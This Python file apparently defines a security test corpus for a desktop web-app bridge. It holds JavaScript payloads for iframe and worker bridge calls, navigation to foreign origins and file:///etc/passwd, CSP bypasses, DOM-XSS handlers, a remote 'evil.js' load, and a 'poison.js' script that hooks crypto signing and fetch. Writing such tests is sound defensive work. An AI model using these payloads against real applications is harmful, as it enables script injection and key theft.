        "iframe-srcdoc",
        "frames",
        "iframe",
        "A srcdoc frame (same origin, no navigation Qt sees) whose app-origin script calls "
        "parent.ramparts and posts to the binary carrier from the frame.",
        r"""
        const r = await frameCall("srcdoc.js", "srcdoc");
        return { escaped: !refusedInFrame(r), result: r };
        """,
        expected="blocked: while a same-origin frame exists the bridge answers not_allowed",
    ),
    Case(
        "iframe-about-blank",
        "frames",
        "iframe",
        "An about:blank frame, scripted by the page, calls parent.ramparts from its own realm "
        "with objects of its realm.",
        r"""
        const f = frame({});
        const w = f.contentWindow;
        const r = await _race([settle(w.parent.ramparts.invoke("canary", new w.Object({ tag: ID }))), sleep(2000).then(() => "no reply")]);
        dropFrames();
        return { escaped: r.ok === true, result: r };
        """,
    ),
    Case(
        "iframe-self-detaching",
        "frames",
        "iframe",
        "A srcdoc frame's script takes parent.ramparts, removes its own frame, then calls: "
        "by the time the message arrives no frame exists.",
        r"""
        const r = await frameCall("detach.js", "detach");
        return { escaped: !refusedInFrame(r), result: r };
        """,
        expected="gets through (known limit): the frame is gone before the call is made",
        known_limit="A script that has already detached its frame calls like main-frame code, "
        "and JS cannot tell who called. Such a script is app-origin code the CSP let run, which "
        "could run in the main frame with the same power.",
        # WebKitGTK never runs a srcdoc frame's script (its navigation is refused).
        known_limit_on=("qt",),
    ),
    Case(
        "iframe-call-then-detach",
        "frames",
        "iframe",
        "A srcdoc frame's script calls parent.ramparts and removes its own frame in the same "
        "task, so the frame is gone before the message reaches Python.",
        r"""
        const r = await frameCall("call-detach.js", "callDetach");
        return { escaped: !refusedInFrame(r), result: r };
        """,
        expected="blocked: the bridge refuses a call made while a same-origin frame exists",
    ),
    Case(
        "workers",
        "frames",
        "iframe",
        "Contexts without the bootstrap: a same-origin dedicated worker and a shared worker "
        "look for a bridge and post to the binary carrier; a service worker (which could "
        "intercept the bootstrap's fetches) is registered.",
        r"""
        const fromWorker = (w) => new _P((res) => { (w.port || w).onmessage = (e) => res(e.data); w.onerror = (e) => res("error " + e.message); if (w.port) w.port.start(); });
        const out = {};
        out.worker = await _race([fromWorker(new Worker("/worker.js")), sleep(2000).then(() => "no answer")]);
        try { out.shared = await _race([fromWorker(new SharedWorker("/worker.js")), sleep(2000).then(() => "no answer")]); } catch (e) { out.shared = e.name; }
        out.sw = await navigator.serviceWorker.register("/worker.js").then(() => "registered", (e) => e.name);
        const reachedW = (r) => r && typeof r === "object" && (r.bridge !== "undefined" || r.post === 200);
        return { escaped: reachedW(out.worker) || reachedW(out.shared) || out.sw === "registered", ...out };
        """,
        expected="blocked: workers have no bridge and no key; the binary carrier refuses their "
        "unsigned posts; service workers cannot register on app://",
    ),
    Case(
        "iframe-other-origin",
        "frames",
        "iframe",
        "Frames of other origins: https://, data: (with an inline script calling parent) and "
        "blob: HTML.",
        _OTHER_ORIGIN_FRAMES,
        expected="blocked: the CSP blocks them (frame-src 'self'); a cross-origin frame cannot reach the parent",
    ),
    Case(
        "iframe-other-origin-csp-allows",
        "frames",
        "iframe",
        "The same frames in an app whose CSP allows https:, data: and blob: frames, so the "
        "second layer (Qt refusing every subframe navigation) is all that stands.",
        _OTHER_ORIGIN_FRAMES,
        expected="blocked: each frame navigation is refused and the frame stays an empty about:blank",
        launch="loose-csp",
    ),
    Case(
        "object-embed",
        "frames",
        "iframe",
        "<object> and <embed> of app-origin HTML and of data: HTML with a script calling parent.",
        r"""
        const o = document.createElement("object"); o.data = "/frame.html"; document.body.appendChild(o);
        const e = document.createElement("embed"); e.src = "data:text/html,<script>parent.ramparts.invoke('canary',{tag:'" + ID + "'})</scr" + "ipt>"; document.body.appendChild(e);
        await sleep(400);
        const ran = document.body.dataset.frameRan || "never ran";
        dropFrames();
        return { escaped: ran !== "never ran" };
        """,
        expected="blocked: object-src 'none'",
    ),
    # --- navigation and windows ------------------------------------------------------------------
    Case(
        "navigate-away",
        "navigation",
        "foreign-page",
        "Navigate the main frame to foreign pages that would run a script: https://, data: and "
        "blob: HTML, file:, another app identifier, a form post, and a <meta refresh>. Each script would call the bridge; the page then checks it is still there.",
        r"""
        const before = location.href;
        const payload = "<script>window.ramparts && ramparts.invoke('canary',{tag:'" + ID + "'})</scr" + "ipt>";
        const blob = URL.createObjectURL(new Blob([payload], { type: "text/html" }));
        const targets = ["https://example.com/", "data:text/html," + encodeURIComponent(payload), blob,
          "file:///etc/passwd", "app://evil.example/index.html", "app://dev.ramparts.test.evil/",
          "http://127.0.0.1:42001/"];
        for (const t of targets) { try { location.href = t; } catch (e) {} await sleep(150); }
        const f = document.createElement("form"); f.action = "https://example.com/"; f.method = "post"; document.body.appendChild(f);
        try { f.submit(); } catch (e) {}
        await sleep(150); f.remove();
        const m = document.createElement("meta"); m.httpEquiv = "refresh"; m.content = "0;url=https://example.com/"; document.head.appendChild(m);
        await sleep(300); m.remove();
        const r = await settle(ramparts.invoke("canary", { tag: "control-" + ID }));
        return { escaped: location.href !== before || !r.ok, href: location.href };
        """,
        expected="blocked: every main-frame navigation off app://<identifier>/ is refused; the page and its session stay",
        launch="navigation",
    ),
    Case(
        "window-open",
        "navigation",
        "foreign-page",
        "Open new windows: window.open of app and foreign URLs and javascript:, a target=_blank "
        "link click, and a form with target=_blank.",
        r"""
        const opened = [window.open("/index.html"), window.open("https://example.com/"),
          window.open("javascript:ramparts.invoke('canary',{tag:'" + ID + "'})"), window.open("", "_blank")];
        const a = document.createElement("a"); a.href = "/index.html"; a.target = "_blank"; document.body.appendChild(a); a.click(); a.remove();
        const f = document.createElement("form"); f.action = "/index.html"; f.target = "_blank"; document.body.appendChild(f);
        try { f.submit(); } catch (e) {}
        f.remove();
        await sleep(300);
        return { escaped: opened.some((w) => w !== null), opened: opened.map((w) => w === null ? null : "window") };
        """,
        expected="blocked: no window is created",
        launch="navigation",
    ),
    Case(
        "about-blank-main-frame",
        "navigation",
        "xss",
        "Put a document with no session into the main frame: data: and blob: navigations "
        "with a payload that calls the bridge, window.open('about:blank') scripted by its "
        "opener, history.pushState to about:blank; then (the harness follows the page) "
        "location.href, location.replace, a link click and window.open(_self) to "
        "about:blank. In each about:blank document a probe holding the live session's key, "
        "a signed canary call and the relay's event names looks for window.ramparts and "
        "qt, posts the call to the binary carrier and sends it through the relay's event.",
        r"""
        const out = {};
        const before = location.href;
        const payload = "<script>window.ramparts && ramparts.invoke('canary',{tag:'" + ID + "'})</scr" + "ipt>";
        const blob = URL.createObjectURL(new Blob([payload], { type: "text/html" }));
        for (const t of ["data:text/html," + encodeURIComponent(payload), blob]) { location.href = t; await sleep(200); }
        out.stayed = location.href === before;
        const w = window.open("about:blank");
        out.opened = w !== null;
        if (w) { try { out.openedBridge = typeof w.ramparts; w.document.write(payload); } catch (e) { out.openedError = e.name; } }
        try { history.pushState({}, "", "about:blank"); out.pushState = location.href; } catch (e) { out.pushState = e.name; }
        return { escaped: !out.stayed || out.opened || out.pushState !== "SecurityError", ...out };
        """,
        expected="blocked: data:/blob: navigations and the popup are refused; about:blank "
        "has no window.ramparts, no relay and an opaque origin (the carrier answers 403), "
        "and going back to the app starts a new session",
        launch="follow-about-blank",
    ),
    Case(
        "history-foreign-origin",
        "navigation",
        "xss",
        "Change the page's URL without a navigation: history.pushState/replaceState to a "
        "foreign origin and to another app path, then call.",
        r"""
        const out = {};
        for (const u of ["https://example.com/", "app://evil.example/", "/other"]) {
          try { history.pushState({}, "", u); out[u] = location.origin; } catch (e) { out[u] = e.name; }
        }
        history.replaceState({}, "", "/index.html");
        const r = await settle(ramparts.invoke("canary", { tag: "control-" + ID }));
        return { escaped: Object.values(out).some((v) => v !== "SecurityError" && v !== "app://dev.ramparts.test") || !r.ok, out };
        """,
        expected="blocked: history cannot change the origin; the session is unaffected",
        launch="navigation",
    ),
    # --- CSP ---------------------------------------------------------------------------------------
    Case(
        "csp-served-inline",
        "csp",
        "xss",
        "Inline code in the served HTML (an HTML injection): a <script> block, an onerror "
        "handler and a javascript: link (clicked), each calling the canary.",
        r"""
        document.getElementById("jslink").click();
        await sleep(300);
        return { escaped: window.inlineRan === true || window.handlerRan === true || window.jsUrlRan === true };
        """,
        expected="blocked by the CSP (header and <meta> first in <head>)",
    ),
    Case(
        "csp-dynamic",
        "csp",
        "xss",
        "Run injected code from a DOM-XSS foothold: eval, new Function, setTimeout(string), "
        "a created inline <script>, a javascript: URL, data:/blob: script sources, a "
        "dynamic import of data:, a blob: worker, and a remote script.",
        r"""
        const tag = `ramparts.invoke('canary',{tag:'${ID}'})`;
        const out = {};
        try { eval(tag); out.eval = "ran"; } catch (e) { out.eval = e.name; }
        try { new Function(tag)(); out.fn = "ran"; } catch (e) { out.fn = e.name; }
        try { setTimeout(tag, 0); } catch (e) { out.timeout = e.name; }
        const add = (attrs) => { const s = document.createElement("script"); Object.assign(s, attrs); document.head.appendChild(s); };
        add({ textContent: tag });
        add({ src: "data:text/javascript," + encodeURIComponent(tag) });
        add({ src: URL.createObjectURL(new Blob([tag], { type: "text/javascript" })) });
        add({ src: "__LOOPBACK__/" + ID + "/evil.js" });  // a listening second origin
        out.import = await import("data:text/javascript," + encodeURIComponent(tag)).then(() => "ran", (e) => e.name);
        try { new Worker(URL.createObjectURL(new Blob(["postMessage(1)"], { type: "text/javascript" }))); out.worker = "created"; } catch (e) { out.worker = e.name; }
        const a = document.createElement("a"); a.href = "javascript:" + tag; document.body.appendChild(a); a.click(); a.remove();
        await sleep(300);
        return { escaped: out.eval === "ran" || out.fn === "ran" || out.import === "ran", ...out };
        """,
        expected="blocked by the CSP: no eval, no inline, no data:/blob:/remote scripts",
    ),
    Case(
        "dom-xss-sinks",
        "csp",
        "xss",
        "HTML injected through DOM sinks (innerHTML, insertAdjacentHTML, outerHTML) with "
        "event-handler attributes that call the bridge.",
        r"""
        const call = `ramparts.invoke('canary',{tag:'${ID}'})`;
        const d = document.createElement("div"); document.body.appendChild(d);
        d.innerHTML = `<img src="nope-1.png" onerror="${call}">`;
        d.insertAdjacentHTML("beforeend", `<svg onload="${call}"></svg><img src="nope-2.png" onerror="${call}">`);
        const e = document.createElement("span"); d.appendChild(e); e.outerHTML = `<img src="nope-3.png" onerror="${call}">`;
        await sleep(300);
        d.remove();
        return { escaped: false };
        """,
        expected="blocked by the CSP: inline event handlers do not run",
    ),
    Case(
        "csp-meta-override",
        "csp",
        "xss",
        "Inject a second, permissive CSP <meta> and a <base href> to a foreign origin, then "
        "load scripts relative to it and inline.",
        r"""
        const m = document.createElement("meta"); m.httpEquiv = "Content-Security-Policy";
        m.content = "script-src * 'unsafe-inline' 'unsafe-eval' data: blob:"; document.head.appendChild(m);
        const b = document.createElement("base"); b.href = "https://example.com/"; document.head.appendChild(b);
        const s = document.createElement("script"); s.textContent = `ramparts.invoke('canary',{tag:'${ID}'})`; document.head.appendChild(s);
        let evalRan = false; try { eval("1"); evalRan = true; } catch (e) {}
        const baseUsed = document.baseURI;
        m.remove(); b.remove();
        await sleep(200);
        return { escaped: evalRan || baseUsed.startsWith("https://example.com"), evalRan, baseUsed };
        """,
        expected="blocked: a later policy can only tighten; base-uri 'none'",
    ),
    Case(
        "page-network",
        "csp",
        "xss",
        "Reach a second origin that listens (a loopback HTTP server started by the test) in "
        "every way a page can: a <script src>, fetch (cors and no-cors), XMLHttpRequest, "
        "WebSocket, an image, navigator.sendBeacon, EventSource, <link rel=prefetch>, an "
        "<iframe> and a form post.",
        PAGE_NETWORK,
        expected="blocked by the CSP (connect-src, script-src, img-src 'self'; form-action "
        "'none'): the server records no request; frames and the form are also refused as "
        "navigations",
    ),
]

#: Static files the corpus app serves. The ``csp-served-inline`` case's payloads are in
#: ``index.html``; frame scripts report back through the parent's DOM.
UI_FILES = {
    "index.html": (
        "<!doctype html><html><head><meta charset='utf-8'><title>corpus</title>"
        "<script src='app.js'></script>"
        "<script>window.inlineRan = true; ramparts.invoke('canary', {tag: 'csp-served-inline'});</script>"
        "</head><body><p id='p'>corpus</p>"
        "<img src='missing.png' onerror=\"window.handlerRan = true; ramparts.invoke('canary', {tag: 'csp-served-inline'})\">"
        "<a id='jslink' href=\"javascript:window.jsUrlRan = true; ramparts.invoke('canary', {tag: 'csp-served-inline'})\">x</a>"
        "</body></html>"
    ),
    "app.js": "window.appLoaded = true;\n",
    "frame.html": "<!doctype html><html><head><script src='frame.js'></script></head><body>f</body></html>",
    "frame.js": (
        "parent.document.body.dataset.frameRan = 'yes';\n"
        "parent.ramparts.invoke('canary', {tag: 'iframe-same-origin'});\n"
        "if (window.ramparts) ramparts.invoke('canary', {tag: 'iframe-same-origin'});\n"
    ),
    "srcdoc.js": (
        "const p = parent;\n"
        "p.ramparts.invoke('canary', {tag: 'iframe-srcdoc'})\n"
        "  .then((v) => { p.document.body.dataset.srcdoc = 'answered ' + v; },\n"
        "        (e) => { p.document.body.dataset.srcdoc = e.code; });\n"
        "fetch('/.ramparts/ipc?n=4', {method: 'POST', body: new Uint8Array(4)});\n"
    ),
    "detach.js": (
        "const r = parent.ramparts, p = parent;\n"
        "frameElement.remove();\n"
        "r.invoke('canary', {tag: 'iframe-self-detaching'})\n"
        "  .then((v) => { p.document.body.dataset.detach = 'answered ' + v; },\n"
        "        (e) => { p.document.body.dataset.detach = e.code; });\n"
    ),
    "call-detach.js": (
        "const r = parent.ramparts, p = parent;\n"
        "const done = r.invoke('canary', {tag: 'iframe-call-then-detach'});\n"
        "frameElement.remove();\n"
        "done.then((v) => { p.document.body.dataset.callDetach = 'answered ' + v; },\n"
        "          (e) => { p.document.body.dataset.callDetach = e.code; });\n"
    ),
    "worker.js": (
        "const report = async (post) => {\n"
        "  const body = crypto.getRandomValues(new Uint8Array(64));\n"
        "  const r = await fetch('/.ramparts/ipc?n=64', {method: 'POST', body}).then((x) => x.status, (e) => e.name);\n"
        "  post({bridge: typeof self.ramparts, qt: typeof self.qt, post: r});\n"
        "};\n"
        "if (typeof onconnect !== 'undefined' || self.constructor.name === 'SharedWorkerGlobalScope') {\n"
        "  onconnect = (e) => report((m) => e.ports[0].postMessage(m));\n"
        "} else { report((m) => postMessage(m)); }\n"
    ),
    # Loaded by the "poison" launch before the app's code: a compromised dependency.
    "poison.js": r"""
(() => {
  const log = { counts: {}, texts: [] };
  window.__poisonLog = log;
  const note = (name, args) => {
    log.counts[name] = (log.counts[name] || 0) + 1;
    for (const a of args) {
      try {
        if (typeof a === "string") log.texts.push(a.slice(0, 4000));
        else if (a instanceof ArrayBuffer || ArrayBuffer.isView(a)) log.texts.push(Array.from(new Uint8Array(a.buffer || a, a.byteOffset || 0, Math.min(a.byteLength, 4000)), (b) => b.toString(16).padStart(2, "0")).join(""));
        else if (a && typeof a === "object") log.texts.push(String(JSON.__origStringify ? JSON.__origStringify(a) : "").slice(0, 4000));
      } catch (e) {}
    }
  };
  const hook = (obj, name, label) => {
    const orig = obj[name];
    obj[name] = function (...args) { note(label, args); return orig.apply(this, args); };
  };
  JSON.__origStringify = JSON.stringify;
  hook(JSON, "stringify", "JSON.stringify");
  hook(JSON, "parse", "JSON.parse");
  hook(Promise.prototype, "then", "Promise.then");
  hook(window, "fetch", "fetch");
  hook(SubtleCrypto.prototype, "sign", "subtle.sign");
  hook(SubtleCrypto.prototype, "importKey", "subtle.importKey");
  hook(Crypto.prototype, "getRandomValues", "getRandomValues");
  hook(TextEncoder.prototype, "encode", "TextEncoder.encode");
  hook(TextDecoder.prototype, "decode", "TextDecoder.decode");
  hook(EventTarget.prototype, "dispatchEvent", "dispatchEvent");
  hook(EventTarget.prototype, "addEventListener", "addEventListener");
  hook(String.prototype, "replace", "String.replace");
  hook(window, "btoa", "btoa");
  const CE = window.CustomEvent;
  window.CustomEvent = function (type, init) { note("CustomEvent", [type, init && init.detail]); return new CE(type, init); };
  window.CustomEvent.prototype = CE.prototype;
})();
""",
}

CATEGORIES = {
    "enumerate": "Enumerate window and prototypes for a path to Python",
    "native-channel": "Call pywebview's or Qt's channels directly",
    "messages": "Forge, replay, reorder, truncate messages",
    "handles": "Dead per-call handles, guessed handles and callback ids",
    "poisoned-builtins": "Monkey-patched JSON, Promise, fetch, crypto",
    "frames": "Calls from frames (same and other origin, srcdoc, data:) and workers",
    "navigation": "Navigate away, window.open",
    "csp": "Inline script, eval, javascript: URLs, remote scripts",
    "local-process": "Connect to the app from another local process",
    "engine": "Use the web engine's own powers (media, permissions, files, WebRTC, network hints)",
}
